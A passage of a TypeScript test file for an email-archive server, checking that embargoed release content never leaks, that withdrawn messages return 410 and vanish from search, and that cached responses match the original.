    assert.ok(!JSON.stringify(budget.facets).includes('embargo.example.org'), 'nor appear in facets');
    assert.equal((await fetch(`${origin}/people/${encodeURIComponent('whistle@embargo.example.org')}`)).status, 404);
    const root = await idOf('Budget for the north basin');
    const rootMessage = await store.getMessage(root);
    const thread = (await (await fetch(`${origin}/api/threads/${rootMessage!.threadId}`)).json()) as {
      messages: Array<{ subject: string; from: { address: string } }>;
    };
    assert.ok(thread.messages.every((m) => m.from.address !== 'whistle@embargo.example.org'));
    for (const path of [
      '/feed.atom',
      '/',
      `/emails/${root}`,
      '/search?q=budget',
      '/keys',
      '/api/stats',
      '/releases/1',
      '/people',
      '/people?sort=address',
      '/dates',
      '/dates/2020-06',
      // One slip from the embargoed word: no "did you mean" may offer it.
      '/search?q=zanzibarit',
      '/api/search?q=zanzibarit',
      ...Array.from({ length: 30 }, (_, d) => `/dates/2020-06-${String(d + 1).padStart(2, '0')}`),
      '/api/releases',
      '/search.mbox?q=budget',
    ]) {
      const text = await (await fetch(`${origin}${path}`)).text();
      assert.doesNotMatch(text, /zanzibarite|embargo\.example\.org|Whistle/i, path);
    }
    assert.equal((await fetch(`${origin}/releases/2`)).status, 404);
    // The bulk download of the public release: every message of it, none of the embargoed part; none for the embargoed release.
    assert.match(await (await fetch(`${origin}/releases/1`)).text(), /href="\/releases\/1\/release-1\.mbox\.gz"/);
    let download = await fetch(`${origin}/releases/1/release-1.mbox.gz`);
    for (let i = 0; download.status === 503 && i < 20; i++)
      download = await fetch(`${origin}/releases/1/release-1.mbox.gz`, { signal: AbortSignal.timeout(10_000) });
    assert.equal(download.status, 200);
    assert.match(download.headers.get('content-disposition') ?? '', /attachment; filename="?release-1\.mbox\.gz/);
    const mbox = gunzipSync(Buffer.from(await download.arrayBuffer())).toString('utf8');
    const release1 = (await store.releases()).find((r) => r.number === 1)!;
    assert.equal(mbox.match(/^From /gm)?.length, release1.messages, 'every message of release 1');
    assert.match(mbox, /Budget for the north basin/);
    assert.doesNotMatch(mbox, /zanzibarite|embargo\.example\.org|Whistle/i);
    assert.equal((await fetch(`${origin}/releases/2/release-2.mbox.gz`)).status, 404);
    assert.equal((await fetch(`${origin}/releases/1/release-2.mbox.gz`)).status, 404);
    assert.equal((await fetch(`${origin}/api/search?q=release:2`)).status, 200);
    assert.equal(((await (await fetch(`${origin}/api/search?q=release:2`)).json()) as SearchResult).total, 0);
    // The publisher still sees everything.
    const { parseQuery } = await import('../../src/query/parseQuery.js');
    assert.equal((await publisher.search(parseQuery('zanzibarite'), { sort: 'date', limit: 5 })).total, 2);
    // …and its "did you mean" offers the word (the public one above did not: the vocabulary has it).
    const { suggestionFor } = await import('../../src/search/suggestions.js');
    assert.deepEqual(await suggestionFor(publisher, 'zanzibarit', parseQuery('zanzibarit')), { query: 'zanzibarite', total: 2 });
  } finally {
    await publisher.close();
  }
});

test('a withdrawn message answers 410 with the signed reason, and is gone from search and the API', async () => {
  const id = await idOf('Hostile forms');
  // Read before, twice: the raw message is then in the server's page cache, which must not outlive the withdrawal.
  for (let i = 0; i < 2; i++) assert.equal((await fetch(`${origin}/emails/${id}/raw`)).status, 200);
  assert.equal((await runCli(['--data', data, 'release', 'amend', '--withdraw', String(id), '--reason', 'Phishing form: taken down'])).code, 0);
  const page = await fetch(`${origin}/emails/${id}`);
  assert.equal(page.status, 410);
  assert.match(await page.text(), /Phishing form: taken down/);
  for (const path of [`/api/emails/${id}`, `/emails/${id}/raw`, `/emails/${id}/html`]) assert.equal((await fetch(`${origin}${path}`)).status, 404, path);
  assert.equal(((await (await fetch(`${origin}/api/search?q=${encodeURIComponent('subject:"Hostile forms"')}`)).json()) as SearchResult).total, 0);
  assert.match(await (await fetch(`${origin}/amendments`)).text(), /Phishing form: taken down/);
});

test('an answer from the page cache is the answer first rendered: status, every header, body; HEAD and If-None-Match as before', async () => {
  const id = await idOf('Budget for the north basin');
  for (const path of [`/emails/${id}`, `/emails/${id}/raw`, `/api/emails/${id}`, '/keys']) {
    // A path with a query nobody asked before: the first answer is rendered, the second from the cache.
    const url = `${origin}${path}?cachecheck=${Date.now()}`;
    const answers = [await fetch(url), await fetch(url)];
    const headers = answers.map((a) => [...a.headers].filter(([name]) => name !== 'date' && name !== 'keep-alive'));
    assert.deepEqual(headers[1], headers[0], `${path}: the same headers`);
    assert.equal(answers[1]!.status, answers[0]!.status);
    const [first, second] = [Buffer.from(await answers[0]!.arrayBuffer()), Buffer.from(await answers[1]!.arrayBuffer())];
    assert.ok(first.length > 0 && first.equals(second), `${path}: the same bytes`);
    const head = await fetch(url, { method: 'HEAD' });
    assert.equal(head.status, 200);
    assert.equal((await head.arrayBuffer()).byteLength, 0, `${path}: HEAD sends no body`);
    const etag = answers[0]!.headers.get('etag');
    if (etag) assert.equal((await fetch(url, { headers: { 'if-none-match': etag } })).status, 304, `${path}: a known ETag is a 304`);
  }
});
